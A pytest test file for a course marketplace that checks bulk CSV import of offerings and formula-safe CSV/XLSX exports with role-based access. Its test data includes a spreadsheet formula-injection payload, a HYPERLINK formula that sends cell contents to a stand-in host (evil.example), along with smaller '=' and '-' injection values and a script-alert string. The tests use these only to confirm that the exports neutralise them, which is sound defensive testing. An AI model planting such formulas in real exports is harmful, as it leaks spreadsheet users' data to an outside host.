"""Bulk work (issue 15 point 3): offerings from a CSV file, all or nothing, a report per
row; enrolments, results and sales as CSV and XLSX that no spreadsheet runs as formulas."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from microcred_market.accounts.models import StaffRole, User
from microcred_market.catalogue import authoring, bulk_import
from microcred_market.catalogue import service as catalogue
from microcred_market.catalogue.models import Offering
from microcred_market.catalogue.search_query import parse_query
from microcred_market.orders.models import Cohort, Enrolment, Order
from microcred_market.platform.clock import utcnow
from microcred_market.platform.cookies import SESSION_COOKIE
from microcred_market.platform.db import session_scope
from microcred_market.platform.errors import InvalidInput
from microcred_market.platform.i18n import t
from microcred_market.platform.models import AuditEvent
from tests.support.portal_world import person, university

pytestmark = pytest.mark.portal

HEADER = "title,ects,eqf_level,price,currency,start_date,self_paced,publish,learning_outcomes"


def _file(*lines: str, header: str = HEADER) -> bytes:
    return ("\n".join([header, *lines]) + "\n").encode("utf-8")


def _offerings(url: str, university_id: int) -> list[str]:
    with session_scope(url) as session:
        return list(
            session.execute(
                sa.select(Offering.slug).where(Offering.university_id == university_id)
            ).scalars()
        )


def _import(url: str, university_id: int, data: bytes, **kwargs):
    with session_scope(url) as session:
        return bulk_import.import_offerings(session, university_id, None, data, **kwargs)


def test_a_file_with_bad_rows_is_reported_row_by_row_and_nothing_is_written(app_env) -> None:
    uni = university(app_env, "uni-a")
    before = _offerings(app_env, uni)
    data = _file(
        "Zielona energia,3,6,990.00,PLN,2027-03-01,no,no,Sizes a PV installation",
        "Bad number,abc,6,10,PLN,2027-03-01,no,no,",
        "Bad level and currency,2,9,10,USD,2027-03-01,no,no,",
        "Bad date,2,6,10,PLN,2027-13-01,no,no,",
        "No start,2,6,10,PLN,,no,no,",
        ",2,6,10,PLN,,yes,maybe,",
    )
    report = _import(app_env, uni, data)
    assert not report.ok and report.created == ()
    assert {(p.row, p.column) for p in report.problems} == {
        (3, "ects"),
        (4, "eqf_level"),
        (4, "currency"),
        (5, "start_date"),
        (6, "start_date"),
        (7, "title"),
        (7, "publish"),
    }
    # The first row was fine, yet nothing at all was written.
    assert _offerings(app_env, uni) == before
    by_place = {(p.row, p.column): p.problem for p in report.problems}
    ects = by_place[(3, "ects")]
    assert "abc is not a number" in t(ects.key, "en", **ects.params)
    assert "abc nie jest liczbą" in t(ects.key, "pl", **ects.params)
    currency = by_place[(4, "currency")]
    assert "PLN, EUR" in t(currency.key, "en", **currency.params)
    assert "waluty" in t(currency.key, "pl", **currency.params)


def test_a_row_to_publish_names_each_missing_eu_element_in_its_column(app_env) -> None:
    uni = university(app_env, "uni-a")  # Polish, no quality-assurance text of its own
    report = _import(app_env, uni, _file("Bez efektów,3,6,10,PLN,2027-03-01,no,yes,"))
    by_column = {p.column: p.problem for p in report.problems}
    assert set(by_column) == {"learning_outcomes", "nqf_level", "quality_assurance"}
    assert all(p.row == 2 for p in report.problems)
    outcomes = by_column["learning_outcomes"]
    assert "at least one learning outcome" in t(outcomes.key, "en", **outcomes.params)
    prk = by_column["nqf_level"]
    assert "poziomu PRK" in t(prk.key, "pl", **prk.params)
    # The same row as a draft is fine: a draft may still lack them.
    assert _import(app_env, uni, _file("Bez efektów,3,6,10,PLN,2027-03-01,no,no,")).ok


def test_unknown_and_missing_columns_are_named(app_env) -> None:
    uni = university(app_env, "uni-a")
    report = _import(app_env, uni, _file("x,1", header="title,colour"))
    assert {(p.row, p.column) for p in report.problems} == {
        (1, "colour"),
        (1, "ects"),
        (1, "eqf_level"),
    }


def test_a_good_file_creates_every_offering_and_a_published_one_is_found_at_once(
    app_env,
) -> None:
    uni = university(app_env, "uni-a")
    seen: list[tuple[int, int]] = []
    rows = [
        "Zielona energia dla inżynierów,3,6,990.00,PLN,2027-03-01,no,yes,"
        '"Sizes a PV installation | Compares heat pumps",6,PRK,Internal QA (PKA)',
        'Szkic kursu o wodorze,2,5,"1490,50",EUR,,yes,no,,,,',
    ]
    # Long enough for the progress to move more than once.
    rows += [f"Kurs numer {n},1,4,0,PLN,,yes,no,,,," for n in range(120)]
    header = HEADER + ",nqf_level,nqf_framework,quality_assurance"
    report = _import(
        app_env, uni, _file(*rows, header=header), progress=lambda d, n: seen.append((d, n))
    )
    assert report.ok and len(report.created) == 122 and report.published == 1
    assert seen[-1] == (244, 244) and len(seen) > 3
    assert [d for d, _ in seen] == sorted(d for d, _ in seen)
    with session_scope(app_env) as session:
        found = catalogue.search(session, parse_query({"q": "zielona inzynierow"}))
        assert [c.title for c in found.items] == ["Zielona energia dla inżynierów"]
        assert catalogue.search(session, parse_query({"q": "wodorze"})).total == 0  # a draft
        draft = session.execute(
            sa.select(Offering).where(Offering.title == "Szkic kursu o wodorze")
        ).scalar_one()
        assert (draft.status, draft.price_minor, draft.currency) == ("draft", 149050, "EUR")
        published = session.execute(
            sa.select(Offering).where(Offering.slug == report.created[0])
        ).scalar_one()
        assert published.learning_outcomes == ["Sizes a PV installation", "Compares heat pumps"]
        audit = session.execute(
            sa.select(AuditEvent).where(AuditEvent.action == "catalogue.offerings_imported")
        ).scalar_one()
        assert audit.subject == "uni-a" and audit.detail["after"]["published"] == 1
        assert [v.number for v in authoring.versions(session, uni, published.slug)] == [1]
    # The same file again: the generated addresses do not collide with the first import.
    again = _import(app_env, uni, _file(rows[0], header=header))
    assert again.ok and again.created[0] != report.created[0]


def test_an_address_already_taken_or_twice_in_the_file_is_refused(app_env) -> None:
    uni = university(app_env, "uni-a")
    header = "slug," + HEADER
    report = _import(
        app_env,
        uni,
        _file(
            "course-uni-a,A,1,4,0,PLN,,yes,no,",
            "new-one,B,1,4,0,PLN,,yes,no,",
            "new-one,C,1,4,0,PLN,,yes,no,",
            "Bad Slug!,D,1,4,0,PLN,,yes,no,",
            header=header,
        ),
    )
    assert {(p.row, p.column) for p in report.problems} == {
        (2, "slug"),
        (4, "slug"),
        (5, "slug"),
    }


def test_an_address_the_portal_uses_for_its_own_pages_is_refused_per_row(app_env) -> None:
    uni = university(app_env, "uni-a")
    before = _offerings(app_env, uni)
    header = "slug," + HEADER
    report = _import(
        app_env,
        uni,
        _file(
            "fine-course,A,1,4,0,PLN,,yes,no,",
            "new,B,1,4,0,PLN,,yes,no,",
            "import,C,1,4,0,PLN,,yes,no,",
            "preview,D,1,4,0,PLN,,yes,no,",
            "cohorts,E,1,4,0,PLN,,yes,no,",
            header=header,
        ),
    )
    assert not report.ok
    assert [(p.row, p.column) for p in report.problems] == [
        (3, "slug"),
        (4, "slug"),
        (5, "slug"),
        (6, "slug"),
    ]
    first, second = (p.problem for p in report.problems[:2])
    assert "The address new is a word the portal uses" in t(first.key, "en", **first.params)
    assert "Adres import to słowo, którego portal" in t(second.key, "pl", **second.params)
    assert _offerings(app_env, uni) == before  # nothing written

    # Without a slug column, a row titled like a page gets a free address.
    report = _import(app_env, uni, _file("New,1,4,0,PLN,,yes,no,", "Import,1,4,0,PLN,,yes,no,"))
    assert report.ok
    assert set(report.created) == {"new-2", "import-2"}


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "offerings.csv"),
        (b"<html><script>alert(1)</script></html>", "offerings.csv"),
        ("title,ects\n".encode("utf-16"), "offerings.csv"),
        (b"title,ects,eqf_level\n", "offerings.csv"),
        (b"x" * (bulk_import.MAX_BYTES + 1), "offerings.csv"),
    ],
    ids=["png", "html", "utf16", "header-only", "too-large"],
)
def test_a_file_that_is_not_a_usable_csv_is_refused_whole(app_env, data, name) -> None:
    uni = university(app_env, "uni-a")
    with pytest.raises(InvalidInput):
        _import(app_env, uni, data, filename=name)
    assert len(_offerings(app_env, uni)) == 1


def test_too_many_rows_are_refused(app_env) -> None:
    uni = university(app_env, "uni-a")
    rows = [f"C{n},1,4,0,PLN,,yes,no," for n in range(bulk_import.MAX_ROWS + 1)]
    with pytest.raises(InvalidInput) as refused:
        _import(app_env, uni, _file(*rows))
    assert refused.value.key == "error.catalogue.import_too_many_rows"


# ---------------------------------------------------------------- exports

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _shop(url: str) -> dict[str, str]:
    """uni-a with an owner, an editor and an assessor; one paid order by a buyer whose
    name is a formula, with a passed enrolment whose grade starts with a minus."""
    tokens = {role: person(url, f"{role}@example.org") for role in ("owner", "editor", "assessor")}
    tokens["buyer"] = person(url, "buyer@example.org")
    uni = university(url, "uni-a")
    university(url, "uni-b")
    with session_scope(url) as session:
        users = dict(session.execute(sa.select(User.email, User.id)).all())
        for role in ("owner", "editor", "assessor"):
            session.add(
                StaffRole(user_id=users[f"{role}@example.org"], university_id=uni, role=role)
            )
        buyer = session.get(User, users["buyer@example.org"])
        buyer.display_name = HOSTILE
        offering = session.execute(
            sa.select(Offering).where(Offering.slug == "course-uni-a")
        ).scalar_one()
        order = Order(
            user_id=buyer.id,
            offering_id=offering.id,
            university_id=uni,
            unit_price_minor=12_000,
            amount_minor=12_000,
            currency="PLN",
            platform_fee_minor=1_200,
            provider="simulated",
            state="paid",
            paid_at=utcnow() - timedelta(days=1),
        )
        session.add(order)
        session.flush()
        session.add(
            Enrolment(
                user_id=buyer.id,
                offering_id=offering.id,
                order_id=order.id,
                passed_at=utcnow(),
                assessment_started_at=utcnow(),
                grade="-5+cmd",
            )
        )
    return tokens


def _csv_rows(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_exports_neutralise_formulas_in_csv_and_xlsx(app_env, browser) -> None:
    tokens = _shop(app_env)
    browser.client.cookies.set(SESSION_COOKIE, tokens["owner"])

    sales = browser.get("/api/universities/uni-a/exports/sales.csv")
    assert sales.status_code == 200, sales.text
    assert sales.headers["content-type"].startswith("text/csv")
    assert "attachment" in sales.headers["content-disposition"]
    header, row = _csv_rows(sales.content)
    assert header[3] == "Buyer" and row[3] == "'" + HOSTILE
    assert row[11] == "120.00" and row[13] == "12.00"  # amounts stay plain numbers

    book = load_workbook(
        io.BytesIO(browser.get("/api/universities/uni-a/exports/sales.xlsx").content)
    )
    sheet = book.active
    buyer = sheet.cell(row=2, column=4)
    assert buyer.data_type == "s" and buyer.value == "'" + HOSTILE
    amount = sheet.cell(row=2, column=12)
    assert amount.data_type == "n" and float(amount.value) == 120.0
    for line in sheet.iter_rows():
        for cell in line:
            assert cell.data_type != "f", (cell.coordinate, cell.value)

    results = browser.get("/api/universities/uni-a/exports/results.csv?lang=pl")
    header, row = _csv_rows(results.content)
    assert header[1] == "Uczestnik" and row[1] == "'" + HOSTILE and row[7] == "'-5+cmd"
    results_book = load_workbook(
        io.BytesIO(browser.get("/api/universities/uni-a/exports/results.xlsx").content)
    )
    assert results_book.active.cell(row=2, column=8).value == "'-5+cmd"

    enrolments = browser.get("/api/universities/uni-a/exports/enrolments.csv")
    header, row = _csv_rows(enrolments.content)
    assert row[1] == "'" + HOSTILE and row[3] == "course-uni-a"


def test_exports_follow_the_roles_and_never_cross_universities(app_env, browser) -> None:
    tokens = _shop(app_env)
    expected = {
        "owner": {"enrolments": 200, "results": 200, "sales": 200},
        "editor": {"enrolments": 200, "results": 403, "sales": 200},
        "assessor": {"enrolments": 200, "results": 200, "sales": 403},
        "buyer": {"enrolments": 403, "results": 403, "sales": 403},
    }
    for role, kinds in expected.items():
        browser.client.cookies.set(SESSION_COOKIE, tokens[role])
        for kind, status in kinds.items():
            for fmt in ("csv", "xlsx"):
                got = browser.get(f"/api/universities/uni-a/exports/{kind}.{fmt}").status_code
                assert got == status, (role, kind, fmt)
                other = browser.get(f"/api/universities/uni-b/exports/{kind}.{fmt}").status_code
                assert other == 403, (role, kind, fmt)
    browser.client.cookies.set(SESSION_COOKIE, tokens["owner"])
    assert browser.get("/api/universities/uni-a/exports/secrets.csv").status_code == 404
    assert browser.get("/api/universities/uni-a/exports/sales.ods").status_code == 404
    template = browser.get("/api/universities/uni-a/offerings/import-template.csv")
    header, example = _csv_rows(template.content)
    assert header == list(bulk_import.COLUMNS) and len(example) == len(header)
    browser.client.cookies.clear()
    assert browser.get("/api/universities/uni-a/exports/sales.csv").status_code == 401


def test_the_template_imports_as_it_is(app_env) -> None:
    uni = university(app_env, "uni-a")
    header, example = bulk_import.template_rows()
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, example])
    report = _import(app_env, uni, buffer.getvalue().encode())
    assert report.ok, report.problems


def test_the_enrolment_export_names_each_cohort_and_neutralises_its_name(app_env, browser) -> None:
    tokens = _shop(app_env)  # the buyer's enrolment is self-paced (no cohort)
    with session_scope(app_env) as session:
        offering = session.execute(
            sa.select(Offering).where(Offering.slug == "course-uni-a")
        ).scalar_one()
        learner = session.execute(
            sa.select(User).where(User.email == "assessor@example.org")
        ).scalar_one()
        cohort = Cohort(
            offering_id=offering.id,
            label="=1+2 Spring",
            start_date=date(2027, 3, 1),
            end_date=date(2027, 4, 30),
        )
        session.add(cohort)
        session.flush()
        session.add(Enrolment(user_id=learner.id, offering_id=offering.id, cohort_id=cohort.id))
    browser.client.cookies.set(SESSION_COOKIE, tokens["owner"])

    header, *rows = _csv_rows(browser.get("/api/universities/uni-a/exports/enrolments.csv").content)
    assert header[5] == "Cohort"
    by_email = {row[2]: row for row in rows}
    assert by_email["buyer@example.org"][5] == ""
    assert by_email["assessor@example.org"][5] == "'=1+2 Spring (2027-03-01 – 2027-04-30)"

    pl = _csv_rows(browser.get("/api/universities/uni-a/exports/enrolments.csv?lang=pl").content)
    assert pl[0][5] == "Grupa"
    book = load_workbook(
        io.BytesIO(browser.get("/api/universities/uni-a/exports/enrolments.xlsx").content)
    )
    cells = [row[5] for row in book.active.iter_rows(min_row=2, values_only=True)]
    assert "'=1+2 Spring (2027-03-01 – 2027-04-30)" in cells
    for line in book.active.iter_rows():
        for cell in line:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
